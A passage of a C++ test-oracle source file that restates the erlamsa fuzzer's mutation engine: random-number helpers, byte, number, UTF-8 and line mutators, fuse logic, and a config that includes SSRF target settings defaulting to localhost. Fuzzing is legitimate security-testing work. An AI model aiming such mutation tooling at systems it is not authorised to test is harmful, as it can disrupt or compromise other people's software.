// ORACLE — TEST INFRASTRUCTURE ONLY (see oracle.h).  Single-threaded C++17
// restatement, function by function, of the reference's batch fuzz-case path.
// Every function cites the reference file:line it follows (paths relative to
// /root/reference/src).  Erlang lists are std::vector, binaries are Bytes,
// process crashes are otp::ErlCrash.
//
// PARITY UNPINNED (no Erlang runtime on this image; reference tests pin no
// byte-exact vectors).  What IS pinned: tests/test_oracle_*.py re-express the
// reference's own eunit properties (erlamsa_mutations_test.erl) against this
// code, plus hand-derived AS183 known answers; tests/test_pymodel.py diffs a second,
// independent Python model of fuzzer/1 (set-up, generators, 8 patterns, 37 mutators)
// against it on 15 000 cases; tests/golden/capture.escript turns the golden
// vectors into BEAM captures on a host with OTP.
//
// Engine limits (work-area cap, optional work budget, the cpu_baseline leg's wall
// clock watchdog) are NOT part of the restated functions: they live in EngineGuard,
// a null pointer unless a caller asks for caps.
#include <zlib.h>   // the dependency OTP's zlib module binds (this image: 1.2.11, the version OTP 20 - 23 bundle); used for cp / ar / zip only
#include "oracle.h"

#include <chrono>
#include <pthread.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <memory>
#include <sstream>

#include "otp_compat.h"

using otp::Big;
using otp::ErlCrash;
typedef std::vector<uint8_t> Bytes;
typedef std::vector<Bytes> BList;  // [binary()]

namespace {

// erlamsa.hrl:44-58
const int INITIAL_IP = 24;
const size_t AVG_BLOCK_SIZE = 2048;
const size_t MIN_BLOCK_SIZE = 256;
const size_t MAX_BLOCK_SIZE = 2 * AVG_BLOCK_SIZE;
const size_t ABSMAXHALF_BINARY_BLOCK = 500000;
const size_t ABSMAX_BINARY_BLOCK = 2 * ABSMAXHALF_BINARY_BLOCK;
const size_t SIZER_MAX_FIRST_BYTES = 512;
const size_t PREAMBLE_MAX_BYTES = 32;

struct Overflow {};     // engine cap exceeded (not a reference behaviour)
struct Timeout {};      // wall-clock watchdog of the cpu_baseline leg (maxrunningtime)
struct Budget {};       // engine work budget exceeded (deterministic stand-in for maxrunningtime)
struct Unsupported {};  // zip archives with features oracle's prim_zip / zip restatement does not pin (see otpzip)

// ===========================================================================
// erlamsa_rnd.erl
// ===========================================================================
struct Rnd {
  otp::Random r;
  void seed(int64_t a, int64_t b, int64_t c) { r.seed(a, b, c); }            // :72
  uint64_t rand(uint64_t n) { return n == 0 ? 0 : r.uniform_n(n) - 1; }       // :77
  uint64_t erand(uint64_t n) { return n == 0 ? 0 : r.uniform_n(n); }          // :82
  uint64_t rand_range(int64_t l, int64_t rr) {                                // :87-92
    if (rr > l) return rand((uint64_t)(rr - l)) + (uint64_t)l;
    if (rr == l) return (uint64_t)l;
    return 0;
  }
  double rand_float() { return r.uniform(); }                                 // :101
  int rand_bit() { return r.uniform() >= 0.5 ? 1 : 0; }                       // :105 round/1
  bool rand_occurs_fixed(uint64_t nom, uint64_t denom) {                      // :123-130
    uint64_t n = rand(denom);
    if (nom == 1) return n != 0;
    return n < nom;
  }
  // rand(N) for bignum N: trunc(uniform() * float(N))  (random:uniform/1)
  Big rand_big(const Big& n) {
    if (n.is_zero()) return Big();
    double f;
    if (!n.to_double(&f)) throw ErlCrash("badarith: float overflow in rand/1");
    volatile double x = r.uniform() * f;
    return Big::from_double_trunc((double)x);
  }
  Big rand_nbit(uint64_t n) {                                                 // :134-137
    if (n == 0) return Big();
    Big hi = Big::pow2((unsigned)(n - 1));
    return hi.bor(rand_big(hi));
  }
  Big rand_log(uint64_t n) {                                                  // :141-143
    if (n == 0) return Big();
    return rand_nbit(rand(n));
  }
  uint64_t rand_log_small(uint64_t n) {  // n <= 63 so the value fits
    Big b = rand_log(n); int64_t v = 0; b.fits_i64(&v); return (uint64_t)v;
  }
  // rand_elem index (0-based) or -1 for [] (no draw)                          :148-151
  int64_t rand_elem_idx(size_t len) { return len == 0 ? -1 : (int64_t)(r.uniform_n(len) - 1); }
  Bytes random_block(size_t n) {                                              // :165,173-174
    Bytes out(n);
    for (size_t i = 0; i < n; i++) out[n - 1 - i] = (uint8_t)rand(256);  // prepend => first draw is last byte
    return out;
  }
  int rand_delta() { return rand_bit() == 0 ? +1 : -1; }                      // :224-231
  // random_permutation/1 :190-196 over element indices; `less` = Erlang term order on elements
  template <class T, class Less>
  std::vector<T> random_permutation(const std::vector<T>& l, Less less) {
    if (l.size() == 2) {
      if (rand(2) == 1) return std::vector<T>{l[1], l[0]};
      return l;
    }
    std::vector<std::pair<double, size_t>> keyed;
    for (size_t i = 0; i < l.size(); i++) keyed.push_back({r.uniform(), i});
    std::stable_sort(keyed.begin(), keyed.end(), [&](const std::pair<double, size_t>& a, const std::pair<double, size_t>& b) {
      if (a.first != b.first) return a.first < b.first;
      return less(l[a.second], l[b.second]);
    });
    std::vector<T> out;
    for (auto& k : keyed) out.push_back(l[k.second]);
    return out;
  }
  // reservoir_sample/2 :201-214 (returns indices into l)
  std::vector<size_t> reservoir_sample_idx(size_t n, size_t k) {
    std::vector<size_t> res;
    if (k >= n) { for (size_t i = 0; i < n; i++) res.push_back(i); return res; }
    for (size_t i = 0; i < k; i++) res.push_back(i);
    for (size_t i = k + 1; i <= n; i++) {
      uint64_t j = erand(i);
      if (j <= k) res[j - 1] = i - 1;
    }
    return res;
  }
};

// ===========================================================================
// erlamsa_utils.erl (hot subset)
// ===========================================================================
bool binarish(const uint8_t* p, size_t n) {                                   // :238-247
  for (size_t pos = 0;; pos++) {
    const uint8_t* t = p + pos; size_t rem = n - pos;
    if (rem >= 3 && t[0] == 0xEF && t[1] == 0xBB && t[2] == 0xBF) return false;
    if (rem >= 2 && t[0] == 0xFE && t[1] == 0x0F) return false;
    if (pos == 8) return false;
    if (rem == 0) return false;
    if (t[0] == 0) return true;
    if (t[0] & 128) return true;
  }
}
bool binarish(const Bytes& b) { return binarish(b.data(), b.size()); }

BList flush_bvecs(const Bytes& bin, const BList& tail) {                      // :169-175
  BList out; size_t len = bin.size(), pos = 0;
  while (len >= AVG_BLOCK_SIZE) { out.emplace_back(bin.begin() + pos, bin.begin() + pos + AVG_BLOCK_SIZE); pos += AVG_BLOCK_SIZE; len -= AVG_BLOCK_SIZE; }
  out.emplace_back(bin.begin() + pos, bin.end());
  out.insert(out.end(), tail.begin(), tail.end());
  return out;
}
void halve(const Bytes& l, Bytes* a, Bytes* b) {                              // :137-146
  size_t h = l.size() / 2; a->assign(l.begin(), l.begin() + h); b->assign(l.begin() + h, l.end());
}

// erlamsa_utils:sort_by_priority/1 :113-117 + choose_pri/2 :155-161
struct PriItem { int pri; int id; };
std::vector<PriItem> sort_by_priority(const std::vector<PriItem>& l, int* total) {
  otp::ListsSort<PriItem> s([](const PriItem& a, const PriItem& b) { return a.pri > b.pri; });
  std::vector<PriItem> sl = s.sort(l);
  int n = 0; for (auto& e : sl) n += e.pri; *total = n; return sl;
}
int choose_pri(const std::vector<PriItem>& l, int64_t n) {
  for (size_t i = 0; i < l.size(); i++) {
    if (n == 0) return l[i].id;
    if (n < l[i].pri) return l[i].id;
    n -= l[i].pri;
  }
  throw ErlCrash("function_clause: choose_pri");
}

// ===========================================================================
// Mutator table (erlamsa_mutations.erl:1290-1332)
// ===========================================================================
enum MutaId {
  M_SGM, M_JS, M_UW, M_UI, M_AB, M_AD, M_TR2, M_TD, M_NUM, M_TS1, M_TR, M_TS2, M_BD, M_BEI, M_BED,
  M_BF, M_BI, M_BER, M_BR, M_SP, M_SR, M_SD, M_SNAND, M_SRND, M_LD, M_LDS, M_LR2, M_LRI, M_LR,
  M_LS, M_LP, M_LIS, M_LRS, M_FT, M_FN, M_FO, M_LEN, M_B64, M_URI, M_ZIP, M_NIL, M_COUNT
};
struct MutaDef { const char* name; int pri; };
const MutaDef MUTA_TABLE[M_COUNT] = {
    {"sgm", 10}, {"js", 3},  {"uw", 1},   {"ui", 2},    {"ab", 1},  {"ad", 1},  {"tr2", 1}, {"td", 1},
    {"num", 3},  {"ts1", 2}, {"tr", 2},   {"ts2", 2},   {"bd", 1},  {"bei", 1}, {"bed", 1}, {"bf", 1},
    {"bi", 1},   {"ber", 1}, {"br", 1},   {"sp", 1},    {"sr", 1},  {"sd", 1},  {"snand", 1}, {"srnd", 1},
    {"ld", 1},   {"lds", 1}, {"lr2", 1},  {"lri", 1},   {"lr", 1},  {"ls", 1},  {"lp", 1},  {"lis", 1},
    {"lrs", 1},  {"ft", 2},  {"fn", 1},   {"fo", 2},    {"len", 2}, {"b64", 7}, {"uri", 1}, {"zip", 1},
    {"nil", 0}};

// A stored-line element of the lis/lrs state (erlamsa_generic.erl:123-139): a
// list whose items are bytes or (after an update) one nested line at the head.
struct StItem { bool nested; uint8_t b; Bytes line; };
typedef std::vector<StItem> StLine;

// One entry {Score, Pri, Fun, Name} of the mux_fuzzers list; `fn` is the current
// function value (it can change: uri -> base64_mutator, fo -> remember(Block)).
struct Muta {
  double score; int pri; int name; int fn;
  int mask_fun = 0;                 // snand: 0 nand,1 or,2 xor ; srnd: 3 replace (fixed at table build :311-312)
  std::vector<StLine> st_lines; int st_count = 0;   // lis/lrs state [Count|Lines]
  bool fo_has = false; Bytes fo_block;               // fo: remember(Block)
};

struct Config {
  std::vector<std::pair<int, int>> mutations;  // (MutaId, pri) as a map
  std::vector<std::pair<int, int>> patterns;
  std::vector<std::pair<std::string, int>> generators;
  double blockscale = 1.0;
  std::string ssrf_host = "localhost"; int ssrf_port = 51234;
  uint64_t max_case_bytes = 0;
  uint64_t max_case_work = 0;
  double max_case_seconds = 0;
  const uint8_t* paths_data = nullptr; const uint64_t* paths_off = nullptr; uint64_t paths_n = 0;   // the file / jump generators' Paths
};

struct Case;  // fwd

// ENGINE GUARD — NOT reference behaviour.  The HIP engine has per-case caps (work-area bytes, optional work
// budget); when a test wants to compare the *status* of capped cases too, the C API hands the worker one of
// these.  With guard == nullptr (max_case_bytes = max_case_work = 0) the restated functions below are the
// pure reference semantics: the reference's only limit is the wall-clock maxrunningtime watchdog
// (erlamsa_main.erl:211-220), which is outside parity.
struct EngineGuard {
  uint64_t max_bytes = 0, max_work = 0, work = 0;
  std::chrono::steady_clock::time_point deadline; bool timed = false; uint32_t ticks = 0;
  void clock() { if (timed && std::chrono::steady_clock::now() > deadline) throw Timeout(); }
  void attempt(int fn, size_t len);          // called once per mutator attempt of mux_fuzzers_loop
  void round(uint64_t members);              // called once per find_jump_points_loop round
  void codec(uint64_t bytes);                // the container patterns' inflate / deflate (eh_device.h codec_work(): the same sites)
  void size(size_t n) const { if (max_bytes && n > max_bytes) throw Overflow(); }
};

// ===========================================================================
// Worker context for one case: PRNG + mutator list + trace
// ===========================================================================
static thread_local EngineGuard* tl_guard = nullptr;                          // for tick(): long loops of one mutator call
static inline void tick() { if (tl_guard && (++tl_guard->ticks & 1023u) == 0) tl_guard->clock(); }
struct Ctx {
  Rnd rnd;
  const Config* cfg;
  std::vector<Muta> fs;  // the mux_fuzzers list, in list order
  std::string* trace = nullptr;
  // The reference's Meta list in full (erlamsa_main.erl:58-70 prints it with ~p, one element per line): every line below is one
  // element as io_lib:format("~p", [X]) writes it, in the order lists:reverse(lists:flatten(Meta)) gives them.  Elements are
  // consed in time order nearly everywhere, so they are appended as they happen; the few literal lists ([A, B | Meta]) are
  // appended back to front at their sites.
  std::string* meta = nullptr;
  size_t meta_base = 0;  // where the Meta list in hand begins: a nested run (Muta([Bin], []), mutate_once_loop(Mutator, [], ..)) starts a list of its own
  size_t meta_size() const { return meta ? meta->size() : 0; }
  // sgml_mutate / json_mutate return NewMeta ALONE when the block comes back unchanged (erlamsa_sgml.erl:748-749, erlamsa_json.erl:722-723:
  // "{fun .., Ll, NewMeta, -1}", not [NewMeta | Meta]): everything the list in hand held before is gone from what gets printed
  void meta_drop_before(size_t start) { if (meta && start > meta_base) meta->erase(meta_base, start - meta_base); }
  int own_aux = -1;      // set by the mutators whose own Meta entry does not follow from their result alone (sed_num, ascii)
  void m(const std::string& term) { if (meta) { meta->append(term); meta->push_back('\n'); } }
  void m2(const char* a, long long v) { if (meta) m(std::string("{") + a + "," + std::to_string(v) + "}"); }
  void m2(const char* a, const char* b) { if (meta) m(std::string("{") + a + "," + b + "}"); }
  Bytes out;             // blocks already written by blocks_port
  EngineGuard* guard = nullptr;   // engine caps (not reference behaviour); nullptr = pure reference semantics
  std::function<BList()> lazy_ll; // file / jump generators hand the pattern a fun: forced by its first uncons (erlamsa_utils.erl:93)
  void t(const char* tag, const char* name) { if (trace) { trace->append(tag); trace->push_back(':'); trace->append(name); trace->push_back(' '); } }
  void check_cap(size_t n) { if (guard) guard->size(n); }
};

// ---------------------------------------------------------------------------
// erlamsa_mutations.erl:56-61 edit_byte_vector + 176-223 single-byte mutators
// ---------------------------------------------------------------------------
int sed_byte_muta(Ctx& c, BList& ll, int id) {                                // :176-181
  Bytes& h = ll[0];
  uint64_t p = c.rnd.rand(h.size());
  int d = c.rnd.rand_delta();
  if (h.empty()) return d;                                                    // :57
  uint8_t b = h[p];
  switch (id) {
    case M_BD: h.erase(h.begin() + p); break;                                 // :184
    case M_BEI: h[p] = (uint8_t)(b + 1); break;                               // :188
    case M_BED: h[p] = (uint8_t)(b - 1); break;                               // :192
    case M_BR: h.insert(h.begin() + p, b); break;                             // :196
    case M_BF: h[p] = (uint8_t)(b ^ (1u << c.rnd.rand(8))); break;            // :200-207
    case M_BI: h.insert(h.begin() + p, (uint8_t)c.rnd.rand(256)); break;      // :210-215 <<New, B>>
    case M_BER: h[p] = (uint8_t)c.rnd.rand(256); break;                       // :218-223
  }
  return d;
}

// ---------------------------------------------------------------------------
// erlamsa_mutations.erl:232-318 multi-byte mutators
// ---------------------------------------------------------------------------
Bytes randmask(Ctx& c, int mask_fun, const Bytes& bs) {                       // :281-307
  uint64_t prob = c.rnd.erand(100);
  bool occ = c.rnd.rand_occurs_fixed(prob, 100);
  Bytes out;
  for (uint8_t b : bs) {
    // argument evaluation order of randmask_loop/5 call (:291,293): the NEXT
    // rand_occurs_fixed is drawn before MaskFun(H).
    bool next = c.rnd.rand_occurs_fixed(prob, 100);
    if (occ) {
      switch (mask_fun) {
        case 0: b = (uint8_t)(b & ~(1u << c.rnd.rand(8))); break;             // mask_nand :295
        case 1: b = (uint8_t)(b | (1u << c.rnd.rand(8))); break;              // mask_or   :299
        case 2: b = (uint8_t)(b ^ (1u << c.rnd.rand(8))); break;              // mask_xor  :303
        default: b = (uint8_t)c.rnd.rand(256); break;                         // mask_replace :306
      }
    }
    out.push_back(b);
    occ = next;
  }
  return out;
}

int sed_bytes_muta(Ctx& c, BList& ll, const Muta& m) {                        // :232-249
  Bytes& bvec = ll[0];
  if (bvec.empty()) return -1;
  size_t bsize = bvec.size();
  size_t s = c.rnd.rand(bsize);
  size_t l = c.rnd.rand_range(1, (int64_t)(bsize - s + 1));
  Bytes h(bvec.begin(), bvec.begin() + s), p(bvec.begin() + s, bvec.begin() + s + l), t(bvec.begin() + s + l, bvec.end());
  Bytes cc;
  switch (m.fn) {
    case M_SP: {                                                              // :253-260
      std::vector<uint8_t> perm = c.rnd.random_permutation(p, [](uint8_t a, uint8_t b) { return a < b; });
      cc = perm; break;
    }
    case M_SR: {                                                              // :263-270
      uint64_t n = std::max<uint64_t>(2, c.rnd.rand_log_small(10));
      c.check_cap(h.size() + p.size() * n + t.size());
      for (uint64_t i = 0; i < n; i++) cc.insert(cc.end(), p.begin(), p.end());
      break;
    }
    case M_SD: break;                                                         // :273-276
    case M_SNAND: case M_SRND: cc = randmask(c, m.mask_fun, p); break;        // :311-318
  }
  Bytes res = h; res.insert(res.end(), cc.begin(), cc.end()); res.insert(res.end(), t.begin(), t.end());
  bvec.swap(res);
  return c.rnd.rand_delta();
}

// ---------------------------------------------------------------------------
// UTF-8 (erlamsa_mutations.erl:1029-1099)
// ---------------------------------------------------------------------------
std::vector<Bytes> make_funny_unicode() {                                     // :1053-1078
  std::vector<Bytes> manual = {{239, 191, 191}, {240, 144, 128, 128}, {0xef, 0xbb, 0xbf}, {0xfe, 0xff}, {0xff, 0xfe},
                               {0, 0, 0xff, 0xff}, {0xff, 0xff, 0, 0}, {43, 47, 118, 56}, {43, 47, 118, 57}, {43, 47, 118, 43},
                               {43, 47, 118, 47}, {247, 100, 76}, {221, 115, 102, 115}, {14, 254, 255}, {251, 238, 40},
                               {251, 238, 40, 255}, {132, 49, 149, 51}};
  struct R { uint32_t a, b; };
  std::vector<R> codes = {{0x9, 0xd}, {0x8D, 0x8D}, {0xa0, 0xa0}, {0x1680, 0x1680}, {0x180e, 0x180e}, {0x2000, 0x200a},
                          {0x2028, 0x2028}, {0x2029, 0x2029}, {0x202f, 0x202f}, {0x205f, 0x205f}, {0x3000, 0x3000},
                          {0x200e, 0x200f}, {0x202a, 0x202e}, {0x200c, 0x200d}, {0x0345, 0x0345}, {0x00b7, 0x00b7},
                          {0x02d0, 0x02d1}, {0xff70, 0xff70}, {0x02b0, 0x02b8}, {0xfdd0, 0xfdd0}, {0x034f, 0x034f},
                          {0x115f, 0x1160}, {0x2065, 0x2069}, {0x3164, 0x3164}, {0xffa0, 0xffa0}, {0xe0001, 0xe0001},
                          {0xe0020, 0xe007f}, {0x0e40, 0x0e44}, {0x1f4a9, 0x1f4a9}};
  std::vector<uint32_t> numbers;  // foldl with prepend: groups reversed, each range ascending
  for (size_t i = codes.size(); i-- > 0;) for (uint32_t x = codes[i].a; x <= codes[i].b; x++) numbers.push_back(x);
  auto ext = [](uint32_t n) { return (uint8_t)((n & 0x3f) | 0x80); };         // :1034-1036
  for (uint32_t p : numbers) {                                                // encode_point :1038-1051
    Bytes e;
    if (p < 0x80) e = {(uint8_t)p};
    else if (p < 0x800) e = {(uint8_t)(0xc0 | (0x1f & (p >> 6))), ext(p)};
    else if (p < 0x10000) e = {(uint8_t)(0xe0 | (0x0f & (p >> 12))), ext(p >> 6), ext(p)};
    else e = {(uint8_t)(0xf0 | (0x7 & (p >> 18))), ext(p >> 12), ext(p >> 6), ext(p)};
    manual.push_back(e);
  }
  return manual;
}
const std::vector<Bytes>& funny_unicode() { static std::vector<Bytes> v = make_funny_unicode(); return v; }

int sed_utf8_widen(Ctx& c, BList& ll) {                                       // :1081-1089
  Bytes& h = ll[0];
  uint64_t p = c.rnd.rand(h.size());
  int d = c.rnd.rand_delta();
  if (h.empty()) return d;
  uint8_t b = h[p];
  if (b == (b & 0x3f)) { h[p] = 0xC0; h.insert(h.begin() + p + 1, (uint8_t)(b | 0x80)); }
  return d;
}
int sed_utf8_insert(Ctx& c, BList& ll) {                                      // :1092-1099
  Bytes& h = ll[0];
  uint64_t p = c.rnd.rand(h.size());
  int d = c.rnd.rand_delta();
  const Bytes& bin = funny_unicode()[c.rnd.rand_elem_idx(funny_unicode().size())];
  if (h.empty()) return d;
  h.insert(h.begin() + p + 1, bin.begin(), bin.end());
  return d;
}

// ---------------------------------------------------------------------------
// Number mutator (erlamsa_mutations.erl:63-169)
// ---------------------------------------------------------------------------
const std::vector<Big>& interesting_numbers() {                               // :68-75
  static std::vector<Big> v;
  if (v.empty()) {
    const int is[] = {1, 7, 8, 15, 16, 31, 32, 63, 64, 127, 128};
    for (int k = 10; k >= 0; k--) { Big x = Big::pow2(is[k]); v.push_back(x - Big(1)); v.push_back(x); v.push_back(x + Big(1)); }
  }
  return v;
}
Big mutate_num(Ctx& c, const Big& num) {                                      // :90-112
  uint64_t n = c.rnd.rand(12);
  const auto& in = interesting_numbers();
  switch (n) {
    case 0: return num + Big(1);
    case 1: return num - Big(1);
    case 2: return Big(0);
    case 3: return Big(1);
    case 4: case 5: return in[c.rnd.rand_elem_idx(in.size())];
    case 7: return num + in[c.rnd.rand_elem_idx(in.size())];
    case 8: return num - in[c.rnd.rand_elem_idx(in.size())];
    case 9: { Big r = c.rnd.rand_big(num.abs().mul_small(2)); return num.neg ? num + r : num - r; }  // sign(X>=0)=1
    case 10: return -num;
    default: {
      uint64_t nn = c.rnd.rand_range(1, 129);
      Big l = c.rnd.rand_log(nn);
      uint64_t s = c.rnd.rand(3);
      return s == 0 ? num - l : num + l;
    }
  }
}
// get_num/1 :114-125 ; returns consumed length (0 = false)
bool get_num(const Bytes& b, size_t pos, Big* val, size_t* end) {
  Big n; size_t digits = 0; int sign = 1; size_t i = pos;
  for (; i < b.size(); i++) {
    uint8_t d = b[i];
    if (d >= 48 && d <= 57) { n.mul10_add(d - 48); digits++; }
    else if (d == 45 && digits == 0) sign = -1;
    else break;
  }
  if (digits == 0) return false;
  n.trim(); if (sign < 0) n = -n;
  *val = n; *end = i; return true;
}
int sed_num(Ctx& c, BList& ll) {                                              // :127-169
  Bytes h = ll[0];
  // mutate_a_num/2: scan left to right collecting number spans; Which is drawn at the end.
  struct Span { size_t a, b; Big v; };
  std::vector<Span> found;
  for (size_t i = 0; i < h.size();) {
    Big v; size_t e;
    if (get_num(h, i, &v, &e)) { found.push_back({i, e, v}); i = e; } else i++;
  }
  uint64_t which = c.rnd.rand(found.size());
  int64_t n_ret = 0; Bytes lst = h;
  if (!found.empty()) {
    const Span& sp = found[found.size() - 1 - which];   // Which counts from the last number
    Big nn = mutate_num(c, sp.v);
    std::string s = nn.to_dec();
    lst.assign(h.begin(), h.begin() + sp.a); lst.insert(lst.end(), s.begin(), s.end()); lst.insert(lst.end(), h.begin() + sp.b, h.end());
    n_ret = -1;  // (< 0; the exact negative value is irrelevant)
  }
  bool isbin = binarish(lst);
  BList tail(ll.begin() + 1, ll.end());
  ll = flush_bvecs(lst, tail);
  c.own_aux = n_ret == 0 ? 0 : 1;                                             // [{muta_num, 0 | 1} | Meta] :162-168
  if (n_ret == 0) { uint64_t r = c.rnd.rand(10); return r == 0 ? -1 : 0; }
  return isbin ? -1 : +2;
}

// ---------------------------------------------------------------------------
// Lines (erlamsa_mutations.erl:320-378, erlamsa_generic.erl)
// ---------------------------------------------------------------------------
std::vector<Bytes> lines(const Bytes& b) {                                    // :326-331
  std::vector<Bytes> out; Bytes cur;
  for (uint8_t x : b) { cur.push_back(x); if (x == 10) { out.push_back(cur); cur.clear(); } }
  if (!cur.empty()) out.push_back(cur);
  return out;
}
bool try_lines(const Bytes& b, std::vector<Bytes>* ls) {                      // :341-348
  *ls = lines(b);
  if (ls->empty()) return false;
  if (binarish(b)) return false;
  return true;
}
Bytes unlines(const std::vector<Bytes>& l) { Bytes o; for (auto& x : l) o.insert(o.end(), x.begin(), x.end()); return o; }

bool bytes_less(const Bytes& a, const Bytes& b) { return std::lexicographical_compare(a.begin(), a.end(), b.begin(), b.end()); }

void line_op(Ctx& c, int fn, std::vector<Bytes>& l) {
  size_t len = l.size();
  switch (fn) {
    case M_LD: { uint64_t p = c.rnd.erand(len); l.erase(l.begin() + (p - 1)); break; }        // list_del :54-57
    case M_LDS: {                                                                           // list_del_seq :61-66
      uint64_t start = c.rnd.erand(len);
      uint64_t n = c.rnd.erand(len - start + 1);
      // applynth(Start, L, fun(_,R) -> lists:sublist(R, N, Len)): drop element Start and the first N-1 of R
      std::vector<Bytes> out(l.begin(), l.begin() + (start - 1));
      size_t from = start + (n - 1);
      if (from < len) out.insert(out.end(), l.begin() + from, l.end());
      l.swap(out); break;
    }
    case M_LR2: { uint64_t p = c.rnd.erand(len); l.insert(l.begin() + (p - 1), l[p - 1]); break; }  // list_dup :70-73
    case M_LR: {                                                                            // list_repeat :77-82
      uint64_t p = c.rnd.erand(len);
      uint64_t n = std::max<uint64_t>(2, c.rnd.rand_log_small(10));
      Bytes e = l[p - 1];
      l.insert(l.begin() + (p - 1), n - 1, e); break;
    }
    case M_LRI: {                                                                           // list_clone :86-91
      uint64_t from = c.rnd.erand(len), to = c.rnd.erand(len);
      Bytes e = l[from - 1]; l[to - 1] = e; break;
    }
    case M_LS: {                                                                            // list_swap :95-100
      if (len < 2) break;
      uint64_t p = c.rnd.erand(len - 1); std::swap(l[p - 1], l[p]); break;
    }
    case M_LP: {                                                                            // list_perm :105-116
      if (len < 3) break;
      uint64_t from = c.rnd.erand(len - 1);
      uint64_t a = c.rnd.rand_range(2, (int64_t)(len - from));
      uint64_t b = c.rnd.rand_log_small(10);
      uint64_t n = std::max<uint64_t>(2, std::min(a, b));
      if (from - 1 + n > len) throw ErlCrash("badarg: lists:split");
      std::vector<Bytes> seg(l.begin() + (from - 1), l.begin() + (from - 1) + n);
      std::vector<Bytes> perm = c.rnd.random_permutation(seg, bytes_less);
      std::copy(perm.begin(), perm.end(), l.begin() + (from - 1)); break;
    }
  }
}
int line_muta(Ctx& c, BList& ll, int fn) {                                    // construct_line_muta :351-362
  std::vector<Bytes> ls;
  if (!try_lines(ll[0], &ls)) return -1;
  line_op(c, fn, ls);
  ll[0] = unlines(ls);
  return 1;
}
Bytes stline_flat(const StLine& s) { Bytes o; for (auto& it : s) { if (it.nested) o.insert(o.end(), it.line.begin(), it.line.end()); else o.push_back(it.b); } return o; }
StLine stline_of(const Bytes& b) { StLine s; for (uint8_t x : b) s.push_back({false, x, {}}); return s; }
int st_line_muta(Ctx& c, BList& ll, Muta& m) {                                // construct_st_line_muta :366-378
  std::vector<Bytes> ls;
  if (!try_lines(ll[0], &ls)) return -1;
  size_t n = ls.size();
  // step_state/3 erlamsa_generic.erl:123-139
  // clause 1 (:123-129) fills the store and RECURSES: once the count reaches 10 the same call goes on into clause 2
  // (:130-139), so the update draw happens on the filling call as well.  (Rounds 1-2 of this oracle skipped it there;
  // tests/pymodel.py, the independent model, found the difference.)
  while (m.st_count < 10) { uint64_t p = c.rnd.erand(n); m.st_lines.insert(m.st_lines.begin(), stline_of(ls[p - 1])); m.st_count++; }
  {
    uint64_t up = c.rnd.erand(20);
    if (up < 10) {
      uint64_t ep = c.rnd.erand(n);
      StLine& e = m.st_lines[up - 1];  // applynth(Up+1, [Count|Lines]) -> Lines[Up-1]
      if (e.empty()) throw ErlCrash("function_clause: step_state");
      e.erase(e.begin()); e.insert(e.begin(), StItem{true, 0, ls[ep - 1]});
    }
  }
  uint64_t pk = c.rnd.erand((uint64_t)m.st_count);                             // pick_state :141-143
  Bytes x = stline_flat(m.st_lines[pk - 1]);
  uint64_t p = c.rnd.erand(n);                                                // st_list_mod :146-152
  if (m.fn == M_LIS) ls.insert(ls.begin() + (p - 1), x);                      // st_list_ins :156-157  [X, T | R]
  else ls[p - 1] = x;                                                         // st_list_replace :161-162
  ll[0] = unlines(ls);
  return 1;
}

// ---------------------------------------------------------------------------
// erlamsa_fuse.erl
// ---------------------------------------------------------------------------
// Suffixes are represented by their start position in A (sources) or B
// (targets); position == size is the empty suffix [].
struct FuseNode { std::vector<size_t> froms, tos; };
typedef std::map<uint8_t, std::vector<size_t>> CharSufs;
CharSufs char_suffixes(const Bytes& s, const std::vector<size_t>& sufs) {     // :62-71
  CharSufs m;
  for (size_t p : sufs) {
    if (p >= s.size()) continue;                    // ([], Subs) -> Subs
    std::vector<size_t>& v = m[s[p]];               // get(H, [], Subs)
    v.push_back(p + 1);                             // [T | ...]: kept reversed here, turned round below (a cons is O(1))
    if (v.size() == 1 && v[0] == s.size()) v.clear();  // fix_empty_list([[]]) -> []
  }
  for (auto& kv : m) std::reverse(kv.second.begin(), kv.second.end());
  return m;
}
// `acc` is the reference's accumulator list in REVERSE (it prepends, an O(1) cons; appending here and reversing once per
// round in fuse/2 is the same list without a quadratic vector insert).
void fuse_split(const Bytes& a, const Bytes& b, const FuseNode& nd, std::vector<FuseNode>& acc) {  // split/2 :85-100
  tick();
  CharSufs sas = char_suffixes(a, nd.froms), sbs = char_suffixes(b, nd.tos);
  for (auto& kv : sas) {  // gb_trees:to_list ascending
    if (kv.second.empty()) { acc.push_back(FuseNode{{a.size()}, {b.size()}}); continue; }  // [[[[]], []] | Tl]
    auto it = sbs.find(kv.first);
    if (it == sbs.end()) continue;
    acc.push_back(FuseNode{kv.second, it->second});
  }
}
Bytes fuse(Ctx& c, const Bytes& al, const Bytes& bl) {                        // fuse/2 :131-134
  if (al.empty()) return bl;
  if (bl.empty()) return al;
  std::vector<FuseNode> nodes(1);                                             // find_jump_points :103-107
  for (size_t i = 0; i < al.size(); i++) nodes[0].froms.push_back(i);         // suffixes/1 :53-56 (non-empty ones)
  for (size_t i = 0; i < bl.size(); i++) nodes[0].tos.push_back(i);
  int64_t fuel = 100000;
  while (true) {                                                              // find_jump_points_loop :115-128
    if (fuel < 0) break;
    if (c.rnd.rand(8) == 0) break;
    if (c.guard) { uint64_t m = 0; for (auto& n : nodes) m += n.froms.size() + n.tos.size(); c.guard->round(m); }
    std::vector<FuseNode> nd;
    for (auto& n : nodes) fuse_split(al, bl, n, nd);
    std::reverse(nd.begin(), nd.end());
    if (nd.empty()) break;
    fuel -= (int64_t)nd.size();
    nodes.swap(nd);
  }
  // any_position_pair/1 :73-77
  const FuseNode& n = nodes[c.rnd.rand_elem_idx(nodes.size())];
  int64_t fi = c.rnd.rand_elem_idx(n.froms.size());
  int64_t ti = c.rnd.rand_elem_idx(n.tos.size());
  size_t from = fi < 0 ? al.size() : n.froms[fi];   // rand_elem([]) = [] = empty suffix
  size_t to = ti < 0 ? bl.size() : n.tos[ti];
  Bytes out(al.begin(), al.begin() + from);                                   // jump/3 :47-50
  out.insert(out.end(), bl.begin() + to, bl.end());
  return out;
}
int sed_fuse_this(Ctx& c, BList& ll) {                                        // erlamsa_mutations.erl:386-390
  ll[0] = fuse(c, ll[0], ll[0]);
  return c.rnd.rand_delta();
}
int sed_fuse_next(Ctx& c, BList& ll) {                                        // :393-402
  Bytes h = ll[0], a1, a2; halve(h, &a1, &a2);
  Bytes b; BList rest;
  if (ll.size() > 1) { b = ll[1]; rest.assign(ll.begin() + 2, ll.end()); } else b = h;   // uncons(T, H)
  Bytes abl = fuse(c, a1, b);
  Bytes abal = fuse(c, abl, a2);
  int d = c.rnd.rand_delta();
